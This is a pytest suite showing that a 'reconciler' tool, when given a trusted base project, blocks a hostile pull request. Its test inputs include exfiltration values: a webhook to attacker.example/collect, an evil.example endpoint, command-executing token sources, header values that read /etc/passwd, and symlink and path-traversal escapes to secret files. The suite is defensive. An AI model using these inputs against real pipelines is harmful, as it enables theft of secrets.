"""A hostile pull request under --trusted-project: it may change every file of its own, and gets nowhere with it.

The base branch is checked out beside it. `good` is the server of the base branch's environment, `evil` one of the
attacker's; both remember every request with its headers.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from dataclasses import dataclass
from pathlib import Path

import httpx
import pytest

from reconciler.errors import RefusedError, UsageError
from reconciler.project import Project, load_project
from reconciler.project.bundles import dumps, make_bundle
from reconciler.project.document import EnvironmentDocument, ProjectDocument
from reconciler.project.trust import OWN, OWN_OF_ENVIRONMENT, TRUSTED, TRUSTED_OF_ENVIRONMENT
from reconciler.sandbox import Sandbox
from reconciler.sandbox.serve import serving

from .conftest import METER

TOKEN = "om_the_real_token"
SECRET = "om_another_secret_of_the_runner"
HIDDEN = "c0ntent-of-a-file-that-is-nobodys-business"
GONE = "apiVersion: openmeter.io/v1\nkind: Meter\nkey: tokens\nlifecycle: {state: absent}\n"
CHANNEL = """\
apiVersion: openmeter.io/v1
kind: NotificationChannel
key: ops
spec:
  name: Ops
  type: WEBHOOK
  url: https://attacker.example/collect
"""
PLAN = """\
apiVersion: openmeter.io/v1
kind: Plan
key: pro
spec:
  name: Pro
  currency: USD
  billingCadence: P1M
  phases:
    - key: main
      name: Main
      rateCards:
        - type: flat_fee
          key: base
          name: Base
          billingCadence: P1M
          price: { type: flat, amount: "AMOUNT" }
"""


class Listening(Sandbox):
    """A server that remembers who asked it for what."""

    def handle(self, request):
        self.__dict__.setdefault("heard", []).append(request)
        return super().handle(request)


def heard(server):
    return server.sandbox.__dict__.get("heard", [])


def headers(server):
    """The headers of every request that was sent to a server."""
    return [dict(request.headers) for request in SENT if str(request.url).startswith(server.url)]


SENT = []


@dataclass
class Pull:
    """The base branch in one folder, the pull request in another, and a file outside of both."""

    base: Path
    head: Path
    outside: Path
    good: object
    evil: object
    run: object

    def project(self, live="", top="", more=""):
        """What the pull request makes of the project file."""
        self.write("reconciler.yaml", project(f"endpoint: '{self.evil.url}', {live}", top, more))

    def trusted(self, live="token: {env: TOKEN}", top=""):
        """What the base branch says."""
        text = project(f"endpoint: '{self.good.url}', {live}", top)
        (self.base / "reconciler.yaml").write_text(text)

    def write(self, name, text):
        path = self.head / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)

    def __call__(self, *args, env="live"):
        return self.run(*args, "-e", env, "--trusted-project", self.base / "reconciler.yaml")


def project(live, top="", more=""):
    return (
        f"apiVersion: reconciler/v1\nkind: Project\nname: acme\nmanifests: [catalog]\n{top}\n"
        f"environments:\n  live: {{ {live} }}\n{more}\n"
    )


@pytest.fixture
def pull(tmp_path, monkeypatch, run):
    monkeypatch.setenv("TOKEN", TOKEN)
    monkeypatch.setenv("OTHER", SECRET)
    base, head, outside = (tmp_path / name for name in ("base", "head", "outside"))
    for folder in (base, head / "catalog", outside):
        folder.mkdir(parents=True)
    (outside / "secret.yaml").write_text(f"password: {HIDDEN}\n")
    (outside / "secret.json").write_text(json.dumps({"password": HIDDEN}))
    monkeypatch.chdir(head)
    SENT.clear()
    send = httpx.Client.send

    def sending(client, request, **more):
        SENT.append(request)
        return send(client, request, **more)

    monkeypatch.setattr(httpx.Client, "send", sending)
    with serving(Listening(":memory:")) as good, serving(Listening(":memory:")) as evil:
        found = Pull(base, head, outside, good, evil, run)
        found.trusted()
        found.project()
        found.write("catalog/meters.yaml", METER)
        yield found
        assert heard(evil) == []


def told(ended):
    return " ".join((ended.out + ended.err).split())


# Where requests go, and with what


def test_the_token_goes_to_the_trusted_address_only(pull):
    pull.project("token: {env: TOKEN}, insecure: true")
    ended = pull("plan")
    assert ended.code == 0, ended.err
    assert {request["authorization"] for request in headers(pull.good)} == {f"Bearer {TOKEN}"}
    place = os.path.relpath(pull.base / "reconciler.yaml", pull.head)
    assert (
        f"`endpoint` of live is taken from the trusted project ({place}:7:11), not from reconciler.yaml:7:11"
        in told(ended)
    )


def test_a_token_from_a_command_is_not_run(pull):
    pull.project(f"token: {{command: [touch, '{pull.outside / 'ran'}']}}")
    assert pull("plan").code == 0
    assert not (pull.outside / "ran").exists()
    assert {request["authorization"] for request in headers(pull.good)} == {f"Bearer {TOKEN}"}


def test_a_header_with_another_secret_is_not_sent_even_to_the_trusted_address(pull):
    pull.project("headers: {X-Collect: {env: OTHER}, X-Plain: hello}")
    ended = pull("plan")
    assert ended.code == 0
    assert not any({"x-collect", "x-plain"} & request.keys() for request in headers(pull.good))
    assert SECRET not in str(headers(pull.good))
    assert "`headers` of live is ignored" in told(ended)


def test_a_trusted_file_is_looked_up_beside_the_trusted_project_never_in_the_pull_request(pull):
    pull.trusted("token: {file: secrets/token}")
    (pull.base / "secrets").mkdir()
    (pull.base / "secrets" / "token").write_text(TOKEN)
    pull.write("secrets/token", "of-the-attacker")
    assert pull("plan").code == 0
    assert {request["authorization"] for request in headers(pull.good)} == {f"Bearer {TOKEN}"}


def test_a_trusted_command_runs_in_the_trusted_folder(pull):
    pull.trusted("token: {command: [sh, ./token.sh]}")
    (pull.base / "token.sh").write_text(f"echo {TOKEN}\n")
    pull.write("token.sh", f"touch '{pull.outside / 'ran'}'\n")
    assert pull("plan").code == 0
    assert not (pull.outside / "ran").exists()


def test_another_namespace_is_refused_whatever_the_pull_request_pins(pull):
    pull.trusted("token: {env: TOKEN}, identity: 01TRUSTED")
    for said in ("", "identity: 01OTHER"):
        pull.project(said)
        ended = pull("plan")
        assert ended.code == 3
        assert "is the namespace 01TRUSTED" in told(ended)


def test_the_operators_command_line_counts(pull):
    pull.trusted("token: {env: NOT_SET}")
    assert pull("plan").code == 1
    assert pull("plan", "--endpoint", pull.good.url, "--token-env", "TOKEN").code == 0
    assert headers(pull.good)[-1]["authorization"] == f"Bearer {TOKEN}"


# Environments


def test_a_new_environment_is_refused_with_how_to_get_it_in(pull):
    pull.project(more=f"  mine: {{ endpoint: '{pull.evil.url}', token: {{env: TOKEN}}, insecure: true }}")
    for command in (["plan"], ["apply", "--auto-approve"], ["drift"], ["snapshot"], ["get"]):
        ended = pull(*command, env="mine")
        assert ended.code == 3, command
        assert "is not in the trusted project" in ended.err
        assert "merge `environments: {mine: …}` first" in told(ended)
    ended = pull("plan", env="*")
    assert ended.code == 0
    assert "mine  http" not in ended.out
    assert "the environment mine is not in the trusted project: it is only checked until it is merged" in told(ended)


def test_a_new_environment_is_checked_offline_all_the_same(pull):
    pull.project(more=f"  mine: {{ endpoint: '{pull.evil.url}', overlays: [overlays/mine] }}")
    pull.write("overlays/mine/patch.yaml", METER.replace("spec:", "patch:").replace("tokens\n", "unknown\n", 1))
    trusted = ("--trusted-project", pull.base / "reconciler.yaml")
    ended = pull.run("validate", *trusted)
    assert ended.code == 1
    assert "overlays/mine/patch.yaml:1" in ended.out


def test_an_environment_called_sandbox_is_the_embedded_one(pull):
    pull.project(more=f"  sandbox: {{ endpoint: '{pull.evil.url}', token: {{env: TOKEN}}, insecure: true }}")
    ended = pull("plan", env="sandbox")
    assert ended.code == 0
    assert ended.out.startswith("sandbox  sandbox:")


def test_extending_something_hostile_brings_nothing_of_it(pull):
    hostile = f"endpoint: '{pull.evil.url}', token: {{env: OTHER}}, limits: {{maxRemovals: 99}}, protected: false"
    more = f"  worse: {{ abstract: true, {hostile}, headers: {{X-A: b}} }}\n  bad: {{ abstract: true, extends: worse }}"
    pull.write("reconciler.yaml", project("extends: bad", more=more))
    assert pull("plan").code == 0
    assert {request["authorization"] for request in headers(pull.good)} == {f"Bearer {TOKEN}"}
    assert not any("x-a" in request for request in headers(pull.good))


def test_a_file_of_its_own_shadows_no_environment(pull):
    pull.write("reconciler.yaml", "apiVersion: reconciler/v1\nkind: Project\nname: acme\nmanifests: [catalog]\n")
    pull.write("environments/live.yaml", f"endpoint: '{pull.evil.url}'\ntoken: {{env: OTHER}}\n")
    assert pull("plan").code == 0
    assert {request["authorization"] for request in headers(pull.good)} == {f"Bearer {TOKEN}"}


def test_environment_files_beside_the_trusted_project_count_as_trusted(pull):
    (pull.base / "reconciler.yaml").write_text("apiVersion: reconciler/v1\nkind: Project\nname: acme\n")
    (pull.base / "environments").mkdir()
    (pull.base / "environments" / "live.yaml").write_text(f"endpoint: '{pull.good.url}'\ntoken: {{env: TOKEN}}\n")
    assert pull("plan").code == 0
    assert {request["authorization"] for request in headers(pull.good)} == {f"Bearer {TOKEN}"}


# Rules


def test_limits_cannot_be_raised(pull):
    pull.trusted("token: {env: TOKEN}, limits: {maxRemovals: 0}, prune: true")
    assert pull("apply", "--auto-approve").code == 0
    pull.project("limits: {maxRemovals: 100, maxChangesPercent: 100}, prune: true")
    pull.write("catalog/meters.yaml", METER.replace("key: tokens", "key: others"))
    pull.write("catalog/gone.yaml", GONE)
    guards = json.loads(pull("plan", "--format", "json").out)["guards"]
    assert "max_removals" in [guard["code"] for guard in guards if guard["status"] == "open"]


def test_a_policy_cannot_be_taken_away(pull):
    policy = "token: {env: TOKEN}, policy: {classes: {price-raising: {consent: acme/pricing}}}"
    pull.trusted(policy, top="teams: {acme/pricing: [alice]}")
    pull.write("catalog/plan.yaml", PLAN.replace("AMOUNT", "10"))
    assert pull("apply", "--auto-approve", "--allow", "price-raising:Plan/pro").code == 0
    pull.write("catalog/plan.yaml", PLAN.replace("AMOUNT", "20"))
    for said in ("", "policy: {classes: {price-raising: allow}}"):
        pull.project(said, top="teams: {acme/pricing: [mallory]}")
        (guard,) = json.loads(pull("plan", "--format", "json").out)["guards"]
        assert (guard["status"], guard["team"]) == ("open", "acme/pricing")
        assert guard["location"]["file"] == "reconciler.yaml", "the folder of a runner means nothing to a reviewer"


def test_protection_can_be_added_and_never_removed(pull):
    pull.trusted(top="protect: [Meter/tokens]")
    assert pull("apply", "--auto-approve").code == 0
    pull.write("catalog/meters.yaml", GONE)
    for top in ("", "protect: [Plan/*]"):
        pull.project(top=top)
        codes = [guard["code"] for guard in json.loads(pull("plan", "--format", "json").out)["guards"]]
        assert "protected" in codes
    assert "Plan/*" in load_project(pull.head, None, pull.base / "reconciler.yaml").protect


def test_another_name_claims_nothing_of_others(pull):
    pull.write(
        "reconciler.yaml", project(f"endpoint: '{pull.evil.url}'", "formerNames: [victim]").replace("acme", "evil")
    )
    found = load_project(pull.head, None, pull.base / "reconciler.yaml")
    assert (found.name, found.former_names) == ("acme", ())
    assert "`name` is taken from the trusted project" in told(pull("plan"))


ATTACKS = {
    "abstract": "false",
    "endpoint": "https://evil.example",
    "api": "v1",
    "token": "{command: [evil]}",
    "headers": "{X-A: b}",
    "insecure": "true",
    "identity": "01EVIL",
    "protected": "false",
    "adopt": "{NotificationChannel/ops: 01EVIL}",
    "prune": "true",
    "limits": "{maxRemovals: 100, maxChangesPercent: 100, maxSubscribersAffected: 9, maxBillIncreasePercent: 900}",
    "policy": "{classes: {price-raising: allow, destructive: allow}}",
    "freeze": "[]",
    "soak": "PT1M",
    "promotesFrom": "sandbox",
    "planValidFor": "P365D",
}
TRUSTED_VALUES = """\
    endpoint: https://good.example
    token: {env: TOKEN}
    headers: {X-Good: {env: GOOD}}
    identity: 01GOOD
    protected: true
    adopt: {NotificationChannel/ops: 01GOOD}
    prune: false
    limits: {maxRemovals: 1}
    policy: {classes: {price-raising: {consent: acme/pricing}}}
    freeze: [{from: 2026-12-24, to: 2026-12-31, because: holidays}]
    soak: P2D
    promotesFrom: staging
    planValidFor: PT1H
"""


def declared(tmp_path, own, base=TRUSTED_VALUES):
    head = "apiVersion: reconciler/v1\nkind: Project\nname: acme\nenvironments:\n"
    staging = "  staging: {endpoint: https://staging.example}\n"
    for folder, text in (("base", base), ("head", own)):
        (tmp_path / folder).mkdir(exist_ok=True)
        (tmp_path / folder / "reconciler.yaml").write_text(f"{head}{staging}  live:\n{text}")
    return load_project(tmp_path / "head", None, tmp_path / "base" / "reconciler.yaml")


def rules_of(found: Project):
    own = {"location", "warnings", "vars", "var_files", "overlays", "bundle", "description", "written"}
    environment = found.environments["live"]
    return {name: getattr(environment, name) for name in environment.__dataclass_fields__ if name not in own}


@pytest.mark.parametrize("field", sorted(TRUSTED_OF_ENVIRONMENT))
def test_no_field_that_is_trusted_can_be_changed_added_or_left_out(tmp_path, field):
    expected = rules_of(declared(tmp_path, TRUSTED_VALUES))
    rest = "".join(line + "\n" for line in TRUSTED_VALUES.splitlines() if not line.strip().startswith(f"{field}:"))
    hostile = declared(tmp_path, f"{rest}    {field}: {ATTACKS[field]}\n")
    assert rules_of(hostile) == expected
    (warning,) = hostile.environments["live"].warnings
    assert warning.rule == "project.untrusted"
    assert f"`{field}` of live" in warning.message
    left_out = declared(tmp_path, rest if field != "endpoint" else f"{rest}    endpoint: https://elsewhere.example\n")
    assert rules_of(left_out) == expected
    bare = "    endpoint: https://good.example\n"
    assert rules_of(declared(tmp_path, TRUSTED_VALUES, bare)) == rules_of(declared(tmp_path, bare, bare))


def test_the_catalogues_own_fields_are_the_pull_requests(tmp_path):
    digest = "sha256:" + "a" * 64
    said = ("endpoint: https://x.example", "overlays: [o]", "varFiles: [v.yaml]", f"bundle: {digest}", "description: d")
    own = "".join(f"    {line}\n" for line in said)
    environment = declared(tmp_path, own).environments["live"]
    assert (environment.overlays, environment.var_files, environment.bundle) == (("o",), ("v.yaml",), digest)
    assert environment.description == "d"


def test_what_is_the_same_in_both_is_no_warning(tmp_path):
    found = declared(tmp_path, TRUSTED_VALUES)
    assert found.warnings + found.environments["live"].warnings == ()


def test_every_field_of_the_project_file_is_decided():
    """A new field has to be put on one of the two lists of `reconciler/project/trust.py`, with a thought."""

    def names(model):
        return {field.alias or name for name, field in model.model_fields.items()}

    assert names(ProjectDocument) == OWN | TRUSTED
    assert names(EnvironmentDocument) | {"apiVersion", "kind", "name"} == OWN_OF_ENVIRONMENT | TRUSTED_OF_ENVIRONMENT
    assert not OWN & TRUSTED
    assert not OWN_OF_ENVIRONMENT & TRUSTED_OF_ENVIRONMENT
    assert set(ATTACKS) == TRUSTED_OF_ENVIRONMENT


# Secrets that manifests name


def webhook(*lines):
    return CHANNEL + "".join(f"  {line}\n" for line in lines)


@pytest.mark.parametrize(
    "line",
    [
        "customHeaders: {X-Collect: {env: TOKEN}}",
        "signingSecret: {env: OTHER}",
        "customHeaders: {X-Collect: {file: ../outside/secret.yaml}}",
        "customHeaders: {X-Collect: {file: /etc/passwd}}",
        "customHeaders: {X-Collect: {command: [touch, RAN]}}",
    ],
)
def test_a_secret_that_a_manifest_names_is_not_read_and_never_sent(pull, line):
    pull.trusted("token: {env: TOKEN}, limits: {maxChangesPercent: 100}")
    pull.write("catalog/channel.yaml", webhook(line.replace("RAN", str(pull.outside / "ran"))))
    ended = pull("plan")
    assert ended.code == 0, ended.err
    assert "is not read: the trusted project does not list it under `secrets`" in told(ended)
    planned = len(heard(pull.good))
    ended = pull("apply", "--auto-approve")
    assert ended.code == 3
    assert "does not list it under `secrets`" in told(ended)
    applied = heard(pull.good)[planned:]
    assert {request.method for request in applied} == {"GET"}
    assert len(applied) == planned  # it was planned, and then nothing was asked any more
    assert not (pull.outside / "ran").exists()


def test_a_live_secret_is_not_compared_with_one_that_may_not_be_named(pull, monkeypatch):
    """Else a pull request could guess at it: the plan tells whether the two are the same."""
    pull.write("catalog/channel.yaml", webhook("customHeaders: {X-Key: {env: OTHER}}"))
    pull.trusted(top="secrets: {env: [OTHER]}")
    assert pull("apply", "--auto-approve").code == 0
    monkeypatch.setenv("OTHER", "rotated")
    assert "(secret, changed)" in pull("plan").out
    pull.trusted()
    ended = pull("plan")
    assert "(secret, changed)" not in ended.out
    assert "(secret, not checked)" in ended.out


def test_listed_sources_are_read_exactly_as_listed_and_beside_the_trusted_project(pull):
    pull.trusted(top="secrets: {env: [OTHER], files: [secrets/hook], commands: [[sh, ./hook.sh]]}")
    (pull.base / "secrets").mkdir()
    (pull.base / "secrets" / "hook").write_text("from-the-trusted-file")
    (pull.base / "hook.sh").write_text("echo from-the-trusted-command")
    pull.write("secrets/hook", "of-the-attacker")
    pull.write("hook.sh", "echo of-the-attacker")
    sources = "X-A: {env: OTHER}, X-B: {file: secrets/hook}, X-C: {command: [sh, ./hook.sh]}"
    pull.write("catalog/channel.yaml", webhook(f"customHeaders: {{{sources}}}"))
    assert pull("apply", "--auto-approve").code == 0
    sent = next(
        json.loads(request.raw) for request in heard(pull.good) if request.method == "POST" and b"X-A" in request.raw
    )
    assert sent["customHeaders"] == {"X-A": SECRET, "X-B": "from-the-trusted-file", "X-C": "from-the-trusted-command"}
    for other in ("file: ./secrets/hook", "command: [sh, ./hook.sh, more]", "env: TOKEN"):
        pull.write("catalog/channel.yaml", webhook(f"customHeaders: {{X-A: {{{other}}}}}"))
        assert pull("apply", "--auto-approve").code == 3


def test_the_pull_request_cannot_list_a_secret_itself(pull):
    pull.project(top="secrets: {env: [OTHER]}")
    pull.write("catalog/channel.yaml", webhook("customHeaders: {X-Collect: {env: OTHER}}"))
    assert pull("apply", "--auto-approve").code == 3


# Files


ESCAPES = {
    "manifests": lambda pull: pull.write("reconciler.yaml", project("endpoint: 'sandbox:'").replace(
        "[catalog]", "[catalog, ../outside/secret.yaml]")),
    "an absolute path": lambda pull: pull.write("reconciler.yaml", project("endpoint: 'sandbox:'").replace(
        "[catalog]", f"[catalog, {pull.outside}/secret.yaml]")),
    "a folder above": lambda pull: pull.write("reconciler.yaml", project("endpoint: 'sandbox:'").replace(
        "[catalog]", "[catalog, ..]")),
    "an overlay": lambda pull: pull.project("overlays: [../outside]"),
    "a file of variables": lambda pull: pull.project("varFiles: [../outside/secret.yaml]"),
    "a link": lambda pull: (pull.head / "catalog" / "x.yaml").symlink_to(pull.outside / "secret.yaml"),
    "a link to JSON": lambda pull: (pull.head / "catalog" / "x.json").symlink_to(pull.outside / "secret.json"),
    "a linked variable file": lambda pull: [
        (pull.head / "v.yaml").symlink_to(pull.outside / "secret.yaml"), pull.project("varFiles: [v.yaml]")],
    "a linked overlay": lambda pull: [
        (pull.head / "o").symlink_to(pull.outside), pull.project("overlays: [o]")],
    "a linked environment": lambda pull: [
        (pull.head / "environments").mkdir(),
        (pull.head / "environments" / "x.yaml").symlink_to(pull.outside / "secret.yaml")],
    "the project file": lambda pull: [
        (pull.head / "reconciler.yaml").unlink(),
        (pull.head / "reconciler.yaml").symlink_to(pull.outside / "secret.yaml")],
}  # fmt: skip


@pytest.mark.parametrize("command", ["plan", "validate"])
@pytest.mark.parametrize("escape", ESCAPES.values(), ids=ESCAPES.keys())
def test_no_file_outside_of_the_repository_is_read_or_shown(pull, escape, command):
    escape(pull)
    ended = pull(command)
    assert ended.code in (1, 3)
    assert HIDDEN not in ended.out + ended.err
    assert "no file of the repository" in told(ended)


def test_a_link_to_a_folder_elsewhere_is_not_walked(pull):
    (pull.head / "catalog" / "elsewhere").symlink_to(pull.outside)
    ended = pull("validate")
    assert HIDDEN not in ended.out + ended.err


@pytest.mark.parametrize("commit", ["", None, "abcdef0123"])
def test_a_bundle_that_says_it_is_another_file_shows_no_line_of_that(pull, commit):
    """A message about a bundle's manifest shows its line; the file of that name is another one."""
    wrong = METER.replace("openmeter.io/v1", "openmeter.io/v9")
    for name in ("../outside/secret.yaml", "../../../outside/secret.yaml"):
        bundle = make_bundle("acme", {name: wrong.encode()}, {}, commit=commit)
        pull.write(f"bundles/{bundle.file_name}", dumps(bundle))
        for origin in (f"sha256:{bundle.short}", "abcdef0123"):
            (pull.head / f"{origin}:..").mkdir(exist_ok=True)
        pull.project(f"bundle: 'sha256:{bundle.digest}'")
        for command in ("plan", "validate"):
            ended = pull(command)
            assert ended.code in (1, 3)
            assert HIDDEN not in ended.out + ended.err
            assert "secret.yaml" in ended.out + ended.err


def test_gits_own_files_are_closed_too(pull):
    """A checkout keeps the token that it was made with in `.git/config`."""
    (pull.head / ".git").mkdir()
    (pull.head / ".git" / "config.yaml").write_text(f"extraheader: {HIDDEN}\n")
    (pull.head / "catalog" / "x.yaml").symlink_to(pull.head / ".git" / "config.yaml")
    ended = pull("validate")
    assert ended.code == 1
    assert HIDDEN not in ended.out + ended.err


def test_the_trusted_folder_is_closed_where_it_lies_in_the_repository(pull):
    inside = pull.head / "trusted"
    shutil.copytree(pull.base, inside)
    (inside / "secret.yaml").write_text(f"password: {HIDDEN}\n")
    pull.write(
        "reconciler.yaml", project("endpoint: 'sandbox:'").replace("[catalog]", "[catalog, trusted/secret.yaml]")
    )
    ended = pull.run("validate", "--trusted-project", inside / "reconciler.yaml")
    assert ended.code == 1
    assert HIDDEN not in ended.out + ended.err
    pull.write("reconciler.yaml", project("endpoint: 'sandbox:'").replace("[catalog]", "[.]"))
    ended = pull.run("validate", "--trusted-project", inside / "reconciler.yaml")
    assert (ended.code, HIDDEN in ended.out + ended.err) == (0, False)


def test_a_shared_catalogue_elsewhere_in_the_same_repository_is_read(pull, tmp_path):
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    (tmp_path / "shared").mkdir()
    (tmp_path / "shared" / "meters.yaml").write_text(METER)
    pull.write("reconciler.yaml", project("endpoint: 'sandbox:'").replace("[catalog]", "[../shared]"))
    subprocess.run(["git", "-C", str(tmp_path), "add", "."], check=True)
    assert "Meter/tokens" in pull("plan").out


def test_what_a_job_leaves_in_the_checkout_is_not_read(pull):
    """Some actions write credentials beside the files that were checked out."""
    pull.write("reconciler.yaml", project("endpoint: 'sandbox:'").replace("[catalog]", "[catalog, credentials.json]"))
    subprocess.run(["git", "init", "-q", str(pull.head)], check=True)
    subprocess.run(["git", "-C", str(pull.head), "add", "."], check=True)
    pull.write("credentials.json", json.dumps({"private_key": HIDDEN}))
    (pull.head / "catalog" / "linked.json").symlink_to("../credentials.json")
    subprocess.run(["git", "-C", str(pull.head), "add", "catalog"], check=True)
    ended = pull("validate")
    assert ended.code == 1
    assert HIDDEN not in ended.out + ended.err
    assert "`credentials.json` is no file of the repository" in ended.out
    assert "catalog/meters.yaml" not in ended.out


def test_what_was_planted_into_the_state_folder_is_not_looked_at(pull):
    """Receipts are printed, and written through links."""
    from reconciler.workflow import open_context

    context = open_context(pull.head, environment="live", trusted=pull.base / "reconciler.yaml")
    assert context.receipts.is_relative_to(pull.base)


# What is no trust


def test_the_file_at_hand_cannot_be_its_own_judge(pull):
    for path in (pull.head / "reconciler.yaml", pull.head / ".." / "head" / "reconciler.yaml"):
        with pytest.raises(UsageError, match="the project file at hand itself"):
            load_project(pull.head, None, path)


def test_a_trusted_file_that_is_not_there_is_an_error_and_not_nothing(pull):
    ended = pull.run("plan", "--trusted-project", "nowhere.yaml")
    assert ended.code == 64
    assert "there is no trusted project file nowhere.yaml" in ended.err


def test_an_environment_is_refused_by_the_connection_too(pull):
    from reconciler.workflow import connect, open_context

    pull.project(more=f"  mine: {{ endpoint: '{pull.evil.url}' }}")
    context = open_context(pull.head, environment="live", trusted=pull.base / "reconciler.yaml")
    from dataclasses import replace

    other = replace(context, environment=context.project.environment("mine"))
    with pytest.raises(RefusedError, match="mine is not in the trusted project"), connect(other):
        pass


def test_without_a_trusted_project_nothing_is_different(pull):
    pull.write("reconciler.yaml", project("endpoint: 'sandbox:'").replace("[catalog]", "[catalog, ../outside]"))
    (pull.outside / "secret.yaml").unlink()
    (pull.outside / "secret.json").unlink()
    (pull.outside / "more.yaml").write_text(METER.replace("key: tokens", "key: more"))
    assert "Meter/more" in pull.run("plan", "-e", "live").out
